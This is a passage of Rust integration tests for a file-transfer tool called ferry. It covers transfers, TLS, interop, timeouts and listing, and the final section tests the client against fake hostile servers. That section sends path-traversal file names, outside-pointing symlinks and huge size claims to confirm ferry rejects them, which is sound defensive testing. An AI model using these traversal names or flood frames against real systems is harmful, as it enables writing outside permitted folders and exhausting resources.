    let o = ferry(
        &[
            "tej",
            "get",
            "--addr",
            &addr,
            "--out",
            out.path().to_str().unwrap(),
            "a.bin",
            &sha(b"bee"),
        ],
        S,
    );
    assert_eq!(code(&o), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(
        visible(out.path()),
        vec![
            ("a.bin".to_string(), sha(&a)),
            ("b.txt".to_string(), sha(b"bee"))
        ]
    );
    let out2 = TempDir::new("tej-getout2");
    let o = ferry(
        &[
            "tej",
            "get",
            "--addr",
            &addr,
            "--out",
            out2.path().to_str().unwrap(),
            "a.bin",
            "missing.bin",
        ],
        S,
    );
    assert_eq!(code(&o), Some(4), "{}", String::from_utf8_lossy(&o.stderr));
    assert!(visible(out2.path()).is_empty());
    let o = ferry(&["tej", "list", "--addr", &addr, "--json"], S);
    assert_eq!(code(&o), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(
        stdout_json(&o),
        json!([
            {"name": "a.bin", "size": a.len(), "sha256": sha(&a)},
            {"name": "b.txt", "size": 3, "sha256": sha(b"bee")}
        ])
    );
}

/// Size of the T18 transfer. 1 GiB per the spec; see the report if this had to shrink.
const T18_SIZE: usize = 1 << 30;

#[test]
fn t18_large_file_ferry_to_ferry_keeps_rss_anon_small_on_both_sides() {
    let dir = TempDir::new("tej-t18");
    let src = TempDir::new("tej-t18src");
    let path = src.join("large.bin");
    let sum = big_file(&path, 181, T18_SIZE);
    let s = serve(dir.path(), &[]);
    let server_pid = s.child.id();
    let mut sender = Proc::spawn(
        FERRY,
        &[
            "tej",
            "send",
            "--addr",
            &s.addr("tej"),
            path.to_str().unwrap(),
            "--json",
        ],
    );
    let t0 = Instant::now();
    let (status, max_server, max_sender) = wait_sampling_rss(&mut sender.child, server_pid, "send");
    eprintln!(
        "t18: {} MiB in {:?}, RssAnon max server {max_server} KiB, sender {max_sender} KiB",
        T18_SIZE >> 20,
        t0.elapsed()
    );
    assert!(status.success(), "sender: {status:?}");
    let line = sender.line(Duration::from_secs(5));
    let j: Value = serde_json::from_str(&line).unwrap();
    assert_eq!(j["outcome"], "confirmed");
    assert_eq!(hex(&sha256_file(&dir.join("large.bin"))), sum);
    assert!(max_server < 64 * 1024, "server RssAnon {max_server} KiB");
    assert!(max_sender < 64 * 1024, "sender RssAnon {max_sender} KiB");
}

#[test]
fn tls_ferry_send_to_ferry_serve_over_tls() {
    let dir = TempDir::new("tej-tls");
    let certs = TempDir::new("tej-tlscerts");
    let o = ferry(&["certs", "--out", certs.path().to_str().unwrap()], S);
    assert_eq!(code(&o), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    let cert = certs.join("cert.pem");
    let key = certs.join("key.pem");
    let ca = certs.join("ca.pem");
    if !cert.exists() || !key.exists() || !ca.exists() {
        let names: Vec<_> = std::fs::read_dir(certs.path())
            .unwrap()
            .filter_map(Result::ok)
            .map(|e| e.file_name())
            .collect();
        panic!("`ferry certs` wrote {names:?}, expected ca.pem, cert.pem, key.pem");
    }
    let s = serve(
        dir.path(),
        &[
            "--tls",
            "--cert",
            cert.to_str().unwrap(),
            "--key",
            key.to_str().unwrap(),
        ],
    );
    let src = TempDir::new("tej-tlssrc");
    let data = pseudo_random(501, 200_000);
    std::fs::write(src.join("t.bin"), &data).unwrap();
    let o = ferry(
        &[
            "tej",
            "send",
            "--addr",
            &s.addr("tej"),
            "--tls",
            "--cert",
            ca.to_str().unwrap(),
            "--server-name",
            "localhost",
            src.join("t.bin").to_str().unwrap(),
            "--json",
        ],
        S,
    );
    assert_eq!(code(&o), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(stdout_json(&o)["outcome"], "confirmed");
    assert_eq!(visible(dir.path()), vec![("t.bin".to_string(), sha(&data))]);
    // A plain TEJ frame on the TLS port gets no acknowledgement.
    let mut c = connect(&s);
    c.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    c.write_all(&unhex(FILE_ONLY)).unwrap();
    assert!(
        !matches!(read_frame(&mut c), Ok(f) if f.status == 0x81),
        "plain frame acknowledged on a TLS port"
    );
}

// ---------------------------------------------------------------------------------------------
// `ferry serve` with TEJ and JTP over one catalog

#[test]
fn serve_tej_upload_is_listed_by_jtp_and_tej() {
    let dir = TempDir::new("tej-both");
    let s = Server::start(
        &[
            "serve",
            dir.path().to_str().unwrap(),
            "--jtp-bind",
            "127.0.0.1:0",
            "--tej-bind",
            "127.0.0.1:0",
            "--no-tls",
            "--filestorage-bind",
            "off",
            "--filestorage-unix",
            "off",
        ],
        2,
    );
    let png = pseudo_random(601, 3000);
    let mut c = connect(&s);
    c.write_all(&frame(0, &[(b"pic.png", &png), (b"notes.txt", b"n")], b""))
        .unwrap();
    expect_ack(
        &mut c,
        &ack_json(
            &[
                ("pic.png", &png, Some("pic.png")),
                ("notes.txt", b"n", Some("notes.txt")),
            ],
            0,
        ),
    );
    let o = ferry(&["tej", "list", "--addr", &s.addr("tej"), "--json"], S);
    assert_eq!(code(&o), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(
        stdout_json(&o),
        json!([
            {"name": "notes.txt", "size": 1, "sha256": sha(b"n")},
            {"name": "pic.png", "size": png.len(), "sha256": sha(&png)}
        ])
    );
    // JTP lists the image (only): its id is the XXH64 of the bytes.
    let o = ferry(
        &[
            "jtp",
            "list",
            "--addr",
            &s.addr("jtp"),
            "--no-tls",
            "--json",
        ],
        S,
    );
    assert_eq!(code(&o), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    let text = String::from_utf8_lossy(&o.stdout);
    assert!(text.contains("pic.png"), "jtp list: {text}");
    assert!(!text.contains("notes.txt"), "jtp list: {text}");
}

// ---------------------------------------------------------------------------------------------
// Interop with tej-protoc 0.2.4 (T9, T10, T11, T12)

#[test]
fn t9_tej_protoc_client_sends_small_and_50_mib_files_and_reads_the_ack() {
    let py = python();
    let dir = TempDir::new("tej-t9");
    let src = TempDir::new("tej-t9src");
    let small = pseudo_random(901, 1234);
    std::fs::write(src.join("small.txt"), &small).unwrap();
    let big_sum = big_file(&src.join("big.bin"), 903, 50 << 20);
    let s = serve(dir.path(), &[]);
    let addr = s.addr("tej");
    let (host, port) = addr.rsplit_once(':').unwrap();
    let mut p = Proc::spawn(
        py,
        &[
            &interop("tej_client.py"),
            host,
            port,
            "hello from python",
            src.join("small.txt").to_str().unwrap(),
            src.join("big.bin").to_str().unwrap(),
        ],
    );
    let line = p.line(Duration::from_secs(120));
    let st = p.wait(Duration::from_secs(10));
    assert!(st.success(), "tej_client.py: {st:?} {line}");
    let got: Value = serde_json::from_str(&line).unwrap();
    assert_eq!(got["custom_status"], 1, "{got}");
    assert_eq!(got["files"], json!([]));
    let ack: Value = serde_json::from_str(got["message"].as_str().unwrap()).unwrap();
    assert_eq!(
        ack,
        json!({"files": [
            {"name": "small.txt", "size": small.len(), "sha256": sha(&small), "stored_as": "small.txt"},
            {"name": "big.bin", "size": 50 << 20, "sha256": big_sum, "stored_as": "big.bin"}
        ], "message_bytes": 17})
    );
    assert_eq!(
        visible(dir.path()),
        vec![
            ("big.bin".to_string(), big_sum.clone()),
            ("small.txt".to_string(), sha(&small))
        ]
    );
}

#[test]
fn t10_ferry_send_50_mib_to_tej_protoc_server_is_confirmed_and_intact() {
    let out = TempDir::new("tej-t10");
    let src = TempDir::new("tej-t10src");
    let sum = big_file(&src.join("fifty.bin"), 1001, 50 << 20);
    let (p, addr) = py_server(out.path(), "ok");
    let o = ferry(
        &[
            "tej",
            "send",
            "--addr",
            &addr,
            src.join("fifty.bin").to_str().unwrap(),
            "--message",
            "from ferry",
            "--json",
        ],
        Duration::from_secs(120),
    );
    assert_eq!(
        code(&o),
        Some(0),
        "{}\npython: {}",
        String::from_utf8_lossy(&o.stderr),
        p.stderr.lock().unwrap()
    );
    let j = stdout_json(&o);
    assert_eq!(j["outcome"], "confirmed");
    assert_eq!(
        j["files"],
        json!([{"name": "fifty.bin", "size": 50 << 20, "sha256": sum}])
    );
    let seen: Value = serde_json::from_str(&p.line(Duration::from_secs(10))).unwrap();
    assert_eq!(seen["custom_status"], 0);
    assert_eq!(seen["message"], "from ferry");
    assert_eq!(hex(&sha256_file(&out.join("fifty.bin"))), sum);
}

#[test]
fn t11_tej_protoc_server_with_wrong_sha256_is_a_mismatch_exit_4() {
    let out = TempDir::new("tej-t11w");
    let src = TempDir::new("tej-t11wsrc");
    std::fs::write(src.join("w.bin"), pseudo_random(1101, 10_000)).unwrap();
    let (_p, addr) = py_server(out.path(), "wrong-sha");
    let o = ferry(
        &[
            "tej",
            "send",
            "--addr",
            &addr,
            src.join("w.bin").to_str().unwrap(),
            "--message",
            "m",
            "--json",
        ],
        S,
    );
    assert_eq!(code(&o), Some(4), "{}", String::from_utf8_lossy(&o.stderr));
    let j = stdout_json(&o);
    assert_eq!(j["outcome"], "mismatch");
    assert!(j["reply"]["files"].is_array(), "{j}");
}

#[test]
fn t11_tej_protoc_server_that_never_answers_is_unconfirmed_exit_1() {
    let out = TempDir::new("tej-t11s");
    let src = TempDir::new("tej-t11ssrc");
    std::fs::write(src.join("s.bin"), pseudo_random(1103, 10_000)).unwrap();
    let (_p, addr) = py_server(out.path(), "silent");
    let t0 = Instant::now();
    let o = ferry(
        &[
            "tej",
            "send",
            "--addr",
            &addr,
            src.join("s.bin").to_str().unwrap(),
            "--message",
            "m",
            "--ack-timeout",
            "2",
            "--json",
        ],
        S,
    );
    let took = t0.elapsed();
    assert_eq!(code(&o), Some(1), "{}", String::from_utf8_lossy(&o.stderr));
    let j = stdout_json(&o);
    assert_eq!(j["outcome"], "unconfirmed");
    assert_eq!(j["reply"], Value::Null);
    assert!(
        took >= Duration::from_millis(1900) && took < Duration::from_secs(20),
        "--ack-timeout 2 took {took:?}"
    );
}

#[test]
fn t12_ferry_sends_a_nonascii_name_that_tej_protoc_receives_intact() {
    let out = TempDir::new("tej-t12");
    let src = TempDir::new("tej-t12src");
    let data = pseudo_random(1201, 777);
    std::fs::write(src.join("é.txt"), &data).unwrap();
    let (p, addr) = py_server(out.path(), "ok");
    let o = ferry(
        &[
            "tej",
            "send",
            "--addr",
            &addr,
            src.join("é.txt").to_str().unwrap(),
            "--message",
            "m",
            "--json",
        ],
        S,
    );
    assert_eq!(
        code(&o),
        Some(0),
        "{}\npython: {}",
        String::from_utf8_lossy(&o.stderr),
        p.stderr.lock().unwrap()
    );
    assert_eq!(stdout_json(&o)["outcome"], "confirmed");
    let seen: Value = serde_json::from_str(&p.line(Duration::from_secs(10))).unwrap();
    assert_eq!(seen["files"], json!([["é.txt", 777]]));
    assert_eq!(visible(out.path()), vec![("é.txt".to_string(), sha(&data))]);
}

// ---------------------------------------------------------------------------------------------
// More rows of tej.md section 6 and 4.1

#[test]
fn t21_leftover_temporaries_of_a_killed_server_are_deleted_at_start() {
    let dir = TempDir::new("tej-t21k");
    let mut s = serve(dir.path(), &[]);
    let mut c = connect(&s);
    let mut req = file_header(b"crash.bin", 10 << 20);
    req.extend_from_slice(&pseudo_random(2111, 1 << 20));
    c.write_all(&req).unwrap();
    let ing = ingest_dir(dir.path());
    let has_temp = || {
        std::fs::read_dir(&ing)
            .map(|r| {
                r.filter_map(Result::ok)
                    .any(|e| e.metadata().map(|m| m.len() > 0).unwrap_or(false))
            })
            .unwrap_or(false)
    };
    assert!(
        wait_for(Duration::from_secs(10), has_temp),
        "no temporary with data in {ing:?}"
    );
    s.signal(libc::SIGKILL);
    assert!(s.wait_exit(Duration::from_secs(10)).is_some());
    drop(c);
    assert!(
        has_temp(),
        "the killed server's temporary should still be there"
    );
    // A new server on the same folder removes it before serving.
    let s_b = serve(dir.path(), &[]);
    assert_no_temporaries(dir.path());
    assert!(visible(dir.path()).is_empty());
    let mut c = connect(&s_b);
    c.write_all(&unhex(FILE_ONLY)).unwrap();
    expect_ack(&mut c, &ack_json(&[("a.txt", b"AAAA", Some("a.txt"))], 0));
}

#[test]
fn t21_eof_inside_the_message_keeps_the_completed_files_and_sends_no_ack() {
    let dir = TempDir::new("tej-t21m");
    let s = serve(dir.path(), &[]);
    let mut c = connect(&s);
    // A file large enough to be on disk while it arrives, complete, then the message cut short.
    let done = pseudo_random(2102, 2 << 20);
    let mut f = frame(0, &[(b"done.bin", &done)], b"0123456789");
    f.truncate(f.len() - 7);
    c.write_all(&f[..1 << 20]).unwrap();
    wait_for_temporary(dir.path(), 1 << 20);
    c.write_all(&f[1 << 20..]).unwrap();
    c.shutdown(Shutdown::Write).unwrap();
    match read_frame(&mut c) {
        Ok(f) => {
            let j = assert_error(&f, "truncated");
            assert_eq!(j["files"][0]["stored_as"], "done.bin", "{j}");
            expect_closed(&mut c);
        }
        Err(End::Eof) | Err(End::Reset(_)) => {}
        Err(e) => panic!("expected truncated or a close, got {e:?}"),
    }
    assert!(wait_for(Duration::from_secs(5), || visible(dir.path())
        == vec![("done.bin".to_string(), sha(&done))]));
    assert_temporaries_go(dir.path());
}

#[test]
fn t25_silence_inside_a_frame_header_gets_timeout_by_the_stall_rule_not_the_idle_rule() {
    let dir = TempDir::new("tej-t25h");
    let s = serve(
        dir.path(),
        &["--frame-timeout", "2", "--idle-timeout", "30"],
    );
    let mut c = connect(&s);
    // Five bytes of a header, then nothing.
    c.write_all(&[0x80, 0x01, 0x00, 0x00, 0x00]).unwrap();
    let t0 = Instant::now();
    expect_error_and_close(&mut c, "timeout");
    assert!(
        t0.elapsed() < Duration::from_secs(8),
        "stall rule (2 s) fired after {:?}",
        t0.elapsed()
    );
    // Inside the message part too.
    let mut c = connect(&s);
    let mut f = frame(0, &[], b"0123456789");
    f.truncate(f.len() - 4);
    c.write_all(&f).unwrap();
    let t0 = Instant::now();
    expect_error_and_close(&mut c, "timeout");
    assert!(t0.elapsed() < Duration::from_secs(8));
    // And inside a file's data, once its temporary is on disk: the temporary goes.
    let mut c = connect(&s);
    let mut req = file_header(b"silent.bin", 3 << 20);
    req.extend_from_slice(&pseudo_random(2503, 1 << 20));
    c.write_all(&req).unwrap();
    wait_for_temporary(dir.path(), 1 << 20);
    expect_error_and_close(&mut c, "timeout");
    assert!(visible(dir.path()).is_empty());
    assert_temporaries_go(dir.path());
}

#[test]
fn t7_t25_a_silent_peer_gets_timeout_after_the_idle_timeout() {
    let dir = TempDir::new("tej-t7s");
    let s = serve(
        dir.path(),
        &["--idle-timeout", "2", "--frame-timeout", "30"],
    );
    let mut c = connect(&s);
    let t0 = Instant::now();
    expect_error_and_close(&mut c, "timeout");
    let took = t0.elapsed();
    assert!(
        took >= Duration::from_millis(1500) && took < Duration::from_secs(8),
        "idle timeout of 2 s fired after {took:?}"
    );
}

#[test]
fn t24_after_999_dash_names_the_file_is_stored_under_its_sha256() {
    let dir = TempDir::new("tej-t24x");
    std::fs::write(dir.join("full.txt"), b"taken").unwrap();
    for k in 1..=999 {
        std::fs::write(dir.join(&format!("full-{k}.txt")), format!("taken {k}")).unwrap();
    }
    let s = serve(dir.path(), &[]);
    let mut c = connect(&s);
    let data = b"a new full.txt";
    let stored = format!("{}.txt", sha(data));
    c.write_all(&frame(0, &[(b"full.txt", data)], b"")).unwrap();
    expect_ack(
        &mut c,
        &ack_json(&[("full.txt", data, Some(stored.as_str()))], 0),
    );
    assert_eq!(
        std::fs::read(dir.join(&stored)).unwrap(),
        data,
        "content-addressed name"
    );
    assert_eq!(std::fs::read(dir.join("full.txt")).unwrap(), b"taken");
    assert_eq!(visible(dir.path()).len(), 1001);
}

#[test]
fn t17_files_carried_by_a_request_are_not_stored_and_the_request_is_answered() {
    let dir = TempDir::new("tej-t17r");
    std::fs::write(dir.join("a.txt"), b"AAAA").unwrap();
    let s = serve(dir.path(), &[]);
    let mut c = connect(&s);
    c.write_all(&frame(
        4,
        &[(b"smuggled.txt", b"should not be stored")],
        b"{\"get\":[\"a.txt\"]}",
    ))
    .unwrap();
    let f = next_frame(&mut c);
    let mut raw = frame(
        f.status & 0x7f,
        &f.files
            .iter()
            .map(|(n, d)| (n.as_slice(), d.as_slice()))
            .collect::<Vec<_>>(),
        &f.msg,
    );
    raw[1] = f.version;
    assert_eq!(spaced(&raw), FERRY_REQUEST_ANSWER);
    c.write_all(&frame(5, &[(b"smuggled2.txt", b"no")], b""))
        .unwrap();
    assert_eq!(next_frame(&mut c).status, 0x86);
    assert_eq!(visible(dir.path()), vec![("a.txt".into(), sha(b"AAAA"))]);
}

#[test]
fn t2_frames_fed_one_byte_at_a_time_give_the_same_replies() {
    let dir = TempDir::new("tej-t2");
    let s = serve(dir.path(), &[]);
    let mut c = connect(&s);
    c.set_nodelay(true).unwrap();
    for b in unhex(CONCAT_FILE_PING_MESSAGE) {
        c.write_all(&[b]).unwrap();
        std::thread::sleep(Duration::from_millis(2));
    }
    expect_ack(&mut c, &ack_json(&[("a.txt", b"AAAA", Some("a.txt"))], 0));
    expect_ack(&mut c, &ack_json(&[], 5));
    assert_silent(&mut c, Duration::from_millis(500));
}

#[test]
fn t22_a_65535_byte_name_is_read_whole_and_is_a_bad_name() {
    let dir = TempDir::new("tej-t22l");
    let s = serve(dir.path(), &[]);
    let mut c = connect(&s);
    let name = vec![b'a'; 65535];
    c.write_all(&frame(0, &[(&name, b"long"), (b"after.txt", b"ok")], b""))
        .unwrap();
    let f = next_frame(&mut c);
    assert_eq!(f.status, 0x81);
    let j = f.json();
    assert_eq!(j["files"][0]["stored_as"], Value::Null);
    assert_eq!(j["files"][0]["error"], "bad-name");
    assert_eq!(j["files"][0]["sha256"], sha(b"long"));
    assert_eq!(j["files"][1]["stored_as"], "after.txt");
    assert_eq!(visible(dir.path()), vec![("after.txt".into(), sha(b"ok"))]);
}

#[test]
fn t23_t24_names_of_a_folder_and_of_a_symlink_are_not_replaced_or_written_through() {
    let root = TempDir::new("tej-t23s");
    let dir = root.join("share");
    let outside = root.join("outside");
    std::fs::create_dir_all(dir.join("sub")).unwrap();
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("target.txt"), b"outside").unwrap();
    std::os::unix::fs::symlink(outside.join("target.txt"), dir.join("link.txt")).unwrap();
    std::os::unix::fs::symlink(&outside, dir.join("outlink")).unwrap();
    let s = serve(&dir, &[]);
    let mut c = connect(&s);
    c.write_all(&frame(
        0,
        &[
            (b"sub", b"a file named like a folder"),
            (b"link.txt", b"through?"),
            (b"outlink", b"x"),
        ],
        b"",
    ))
    .unwrap();
    let f = next_frame(&mut c);
    assert_eq!(f.status, 0x81, "{:?}", String::from_utf8_lossy(&f.msg));
    let j = f.json();
    for (k, taken) in ["sub", "link.txt", "outlink"].iter().enumerate() {
        let e = &j["files"][k];
        assert_ne!(e["stored_as"], json!(taken), "{e}");
        if let Some(p) = e["stored_as"].as_str() {
            assert!(dir.join(p).is_file() && !dir.join(p).is_symlink(), "{e}");
        }
    }
    assert!(dir.join("sub").is_dir());
    assert_eq!(
        std::fs::read(outside.join("target.txt")).unwrap(),
        b"outside"
    );
    assert_eq!(
        std::fs::read_dir(&outside).unwrap().count(),
        1,
        "nothing new outside the served folder"
    );
}

#[test]
fn t24_concurrent_senders_of_one_name_never_overwrite_and_identical_content_is_stored_once() {
    let dir = TempDir::new("tej-t24c");
    let s = serve(dir.path(), &[]);
    let addr = s.addr("tej");
    let go = std::sync::Arc::new(std::sync::Barrier::new(20));
    let threads: Vec<_> = (0..20u64)
        .map(|k| {
            let addr = addr.clone();
            let go = go.clone();
            std::thread::spawn(move || {
                // 10 different contents, 10 copies of one content.
                let data = if k < 10 {
                    pseudo_random(2401 + 2 * k, 50_000)
                } else {
                    pseudo_random(2499, 50_000)
                };
                let mut c = connect_to(&addr);
                let f = frame(0, &[(b"same.bin", &data)], b"");
                go.wait();
                c.write_all(&f).unwrap();
                let r = next_frame(&mut c);
                assert_eq!(r.status, 0x81);
                let j = r.json();
                assert_eq!(j["files"][0]["sha256"], sha(&data));
                (
                    j["files"][0]["stored_as"].as_str().unwrap().to_string(),
                    sha(&data),
                )
            })
        })
        .collect();
    let got: Vec<(String, String)> = threads.into_iter().map(|t| t.join().unwrap()).collect();
    let on_disk = visible(dir.path());
    assert_eq!(
        on_disk.len(),
        11,
        "10 different + 1 shared content: {on_disk:?}"
    );
    for (stored, sum) in &got {
        assert!(
            on_disk.contains(&(stored.clone(), sum.clone())),
            "ack says {stored} holds {sum}, disk has {on_disk:?}"
        );
    }
}

/// Every page of the listing from `after = None` with `limit`, as `(name, sha256)`.
fn list_all(c: &mut TcpStream, limit: u64) -> Vec<(String, String)> {
    let mut seen = Vec::new();
    let mut after: Option<String> = None;
    for _ in 0..1000 {
        let req = match &after {
            None => json!({ "limit": limit }),
            Some(a) => json!({"after": a, "limit": limit}),
        };
        c.write_all(&frame(5, &[], req.to_string().as_bytes()))
            .unwrap();
        let f = next_frame(c);
        assert_eq!(f.status, 0x86, "{:?}", String::from_utf8_lossy(&f.msg));
        let j = f.json();
        for e in j["files"].as_array().unwrap() {
            seen.push((
                e["name"].as_str().unwrap().to_string(),
                e["sha256"].as_str().unwrap().to_string(),
            ));
        }
        match &j["next"] {
            Value::String(n) => after = Some(n.clone()),
            _ => return seen,
        }
    }
    panic!("listing did not end after 1000 pages");
}

#[test]
fn t15_paging_visits_every_entry_once_when_two_names_are_equal_after_nfc() {
    let dir = TempDir::new("tej-t15n");
    let nfd = "e\u{301}.txt";
    let nfc = "\u{e9}.txt";
    std::fs::write(dir.join("a.txt"), b"a").unwrap();
    std::fs::write(dir.join(nfd), b"decomposed").unwrap();
    std::fs::write(dir.join(nfc), b"composed").unwrap();
    std::fs::write(dir.join("z.txt"), b"z").unwrap();
    let s = serve(dir.path(), &[]);
    let mut c = connect(&s);
    let mut want: Vec<String> = [&b"a"[..], b"decomposed", b"composed", b"z"]
        .iter()
        .map(|d| sha(d))
        .collect();
    want.sort();
    for limit in [1, 2, 3, 10] {
        let mut got: Vec<String> = list_all(&mut c, limit).into_iter().map(|e| e.1).collect();
        got.sort();
        assert_eq!(got, want, "pages of {limit}: every file exactly once");
    }
}

/// Sends one file, reads its acknowledgement and checks that `stored_as` is a catalog path that
/// the listing shows and a request answers with the same bytes (tej.md 3.1: "`stored_as` =
/// catalog path now serving it").
#[track_caller]
fn assert_stored_as_is_served(name: &[u8], data: &[u8]) {
    let dir = TempDir::new("tej-t8s");
    let s = serve(dir.path(), &[]);
    let mut c = connect(&s);
    c.write_all(&frame(0, &[(name, data)], b"")).unwrap();
    let f = next_frame(&mut c);
    assert_eq!(f.status, 0x81);
    let j = f.json();
    let path = j["files"][0]["stored_as"]
        .as_str()
        .unwrap_or_else(|| panic!("{name:?} not stored: {j}"))
        .to_string();
    let listing = list_all(&mut c, 10_000);
    assert!(
        listing.contains(&(path.clone(), sha(data))),
        "{:?} (bytes {}) acknowledged as stored_as {path:?}, but the listing is {listing:?}",
        String::from_utf8_lossy(name),
        spaced(name)
    );
    let req = json!({ "get": [path] }).to_string();
    c.write_all(&frame(4, &[], req.as_bytes())).unwrap();
    let f = next_frame(&mut c);
    assert_eq!(
        f.status,
        0x80,
        "request for stored_as {path:?}: {}",
        String::from_utf8_lossy(&f.msg)
    );
    assert_eq!(sha(&f.files[0].1), sha(data));
}

#[test]
fn t8_stored_as_of_a_plain_name_is_served() {
    assert_stored_as_is_served(b"plain.txt", b"plain");
}

/// Regression: `.profile` passes tej.md 5, was stored and acknowledged as `stored_as`, but the
/// catalog never serves dot names. Ferry now refuses such names as `bad-name` (nothing stored,
/// the frame and the connection go on): a file is acknowledged as stored only if it is served.
#[test]
fn t8_t22_dot_name_is_a_bad_name_not_an_unservable_file() {
    let dir = TempDir::new("tej-dot");
    let s = serve(dir.path(), &[]);
    let mut c = connect(&s);
    c.write_all(&frame(0, &[(b".profile", b"dot"), (b"ok.txt", b"ok")], b""))
        .unwrap();
    let f = next_frame(&mut c);
    assert_eq!(f.status, 0x81);
    let j = f.json();
    assert_eq!(j["files"][0]["stored_as"], Value::Null, "{j}");
    assert_eq!(j["files"][0]["error"], "bad-name", "{j}");
    assert_eq!(j["files"][1]["stored_as"], "ok.txt", "{j}");
    assert!(!dir.join(".profile").exists());
    assert_stored_as_is_served(b"plain2.txt", b"still served");
}

#[test]
fn t8_stored_as_of_a_decomposed_name_is_served() {
    // Stored byte-exact (section 5); the catalog names entries in NFC.
    assert_stored_as_is_served("e\u{301}.txt".as_bytes(), b"decomposed");
}

// ---------------------------------------------------------------------------------------------
// The requester against hostile servers (T23, T31 on the client side)

/// Runs `ferry tej get --addr A --out OUT ITEMS...` against a fake server answering `answer`.
fn get_from_fake(answer: Vec<u8>, out: &Path, items: &[&str]) -> std::process::Output {
    let (addr, h) = fake_request_server(answer);
    let mut args = vec![
        "tej",
        "get",
        "--addr",
        &addr,
        "--out",
        out.to_str().unwrap(),
    ];
    args.extend_from_slice(items);
    let o = ferry(&args, S);
    h.join().unwrap();
    o
}

#[test]
fn t23_get_never_writes_outside_out_whatever_names_the_server_sends() {
    let root = TempDir::new("tej-t23g");
    let out = root.join("out");
    std::fs::create_dir(&out).unwrap();
    for name in [
        "../escaped.txt",
        "/tmp/ferry-it-escaped-abs.txt",
        "sub/inner.txt",
        "..",
        ".ferry",
        "",
    ] {
        let data = b"hostile";
        let manifest = json!({"files": [{"name": name, "size": 7, "sha256": sha(data)}]});
        let answer = frame(
            0,
            &[(name.as_bytes(), data)],
            manifest.to_string().as_bytes(),
        );
        let o = get_from_fake(answer, &out, &["wanted.txt"]);
        let outside: Vec<_> = std::fs::read_dir(root.path())
            .unwrap()
            .filter_map(Result::ok)
            .map(|e| e.file_name())
            .collect();
        assert_eq!(
            outside,
            vec![std::ffi::OsString::from("out")],
            "name {name:?}: exit {:?}",
            code(&o)
        );
        assert!(!Path::new("/tmp/ferry-it-escaped-abs.txt").exists());
        assert!(!out.join("sub").exists(), "name {name:?}");
        // Whatever happened, anything committed is a plain file directly in OUT.
        for e in std::fs::read_dir(&out).unwrap().filter_map(Result::ok) {
            let n = e.file_name().to_string_lossy().into_owned();
            if n.starts_with('.') {
                continue;
            }
            assert!(e.file_type().unwrap().is_file(), "{n}");
            std::fs::remove_file(e.path()).unwrap();
        }
    }
}

#[test]
fn t19_get_refuses_a_one_tib_file_claim_with_bounded_memory_and_nothing_committed() {
    let out = TempDir::new("tej-t19g");
    let mut answer = file_header(b"wanted.txt", 1 << 40);
    answer.extend_from_slice(&[0u8; 65536]);
    let (addr, h) = fake_request_server(answer);
    let mut p = Proc::spawn(
        FERRY,
        &[
            "tej",
            "get",
            "--addr",
            &addr,
            "--out",
            out.path().to_str().unwrap(),
            "wanted.txt",
        ],
    );
    let pid = p.child.id();
    let mut max = 0;
    let t0 = Instant::now();
    let st = loop {
        max = max.max(proc_kib(pid, "RssAnon"));
        if let Ok(Some(st)) = p.child.try_wait() {
            break st;
        }
        assert!(t0.elapsed() < S, "ferry tej get did not finish");
        std::thread::sleep(Duration::from_millis(10));
    };
    h.join().unwrap();
    assert!(!st.success());
    assert!(max < 64 * 1024, "RssAnon {max} KiB");
    assert!(visible(out.path()).is_empty());
}

/// A fake listing server answering every list request with a one-entry page whose `next` is
/// `nexts[k % nexts.len()]`; panics if the client is still paging after 10 s.
fn endless_lister(nexts: &'static [&'static str]) -> (String, std::thread::JoinHandle<()>) {
    fake_peer(move |c, mut f| {
        let t0 = Instant::now();
        let mut k = 0;
        loop {
            assert_eq!(f.status, 0x85);
            let n = nexts[k % nexts.len()];
            k += 1;
            let m = json!({"files": [{"name": n, "size": 1, "sha256": sha(b"x")}], "next": n});
            if c.write_all(&frame(6, &[], m.to_string().as_bytes()))
                .is_err()
            {
                return;
            }
            match read_frame(c) {
                Ok(next) => f = next,
                Err(_) => return,
            }
            assert!(
                t0.elapsed() < Duration::from_secs(10),
                "client still paging after {k} pages with next cycling through {nexts:?}"
            );
        }
    })
}

/// Runs `ferry tej list` against an endless lister: it must stop by itself, fail as a protocol
/// error (exit 4) naming the page that does not move, and print no listing.
fn assert_list_refuses_a_listing_that_does_not_move(nexts: &'static [&'static str]) {
    let (addr, h) = endless_lister(nexts);
    let o = ferry(&["tej", "list", "--addr", &addr, "--json"], S);
    h.join().unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(code(&o), Some(4), "{err}");
    assert!(err.contains("does not move past"), "{err}");
    assert!(o.stdout.is_empty(), "a listing was printed: {:?}", o.stdout);
}

#[test]
fn t15_list_ends_when_a_server_repeats_the_same_next() {
    assert_list_refuses_a_listing_that_does_not_move(&["loop.txt"]);
}

#[test]
fn t15_list_ends_when_a_server_sends_next_backwards() {
    // Pages are in byte order of path and start after `after`: a `next` that does not move
    // forward can only come from a broken or hostile server.
    assert_list_refuses_a_listing_that_does_not_move(&["b.txt", "a.txt"]);
}

#[test]
fn t19_send_stays_bounded_when_the_peer_answers_with_huge_claims() {
    let src = TempDir::new("tej-t19s");
    std::fs::write(src.join("s.txt"), b"small").unwrap();
    for (what, claim) in [
        ("1 TiB message", {
            let mut v = vec![0x87, 1];
            v.extend_from_slice(&0u64.to_be_bytes());
            v.extend_from_slice(&(1u64 << 40).to_be_bytes());
            v
        }),
        ("1 TiB file", file_header(b"flood.bin", 1 << 40)),
        ("2^64-1 files", {
            let mut v = vec![0x87, 1];
            v.extend_from_slice(&u64::MAX.to_be_bytes());
            v
        }),
    ] {
        let (addr, h) = fake_peer(move |c, _| {
            let _ = c.write_all(&claim);
            // Then keep feeding zeros for a while, as a flooding peer would.
            let zeros = vec![0u8; 1 << 16];
            let t0 = Instant::now();
            while t0.elapsed() < Duration::from_secs(8) {
                if c.write_all(&zeros).is_err() {
                    return;
                }
            }
        });
        let mut p = Proc::spawn(
            FERRY,
            &[
                "tej",
                "send",
                "--addr",
                &addr,
                "--ack-timeout",
                "3",
                src.join("s.txt").to_str().unwrap(),
            ],
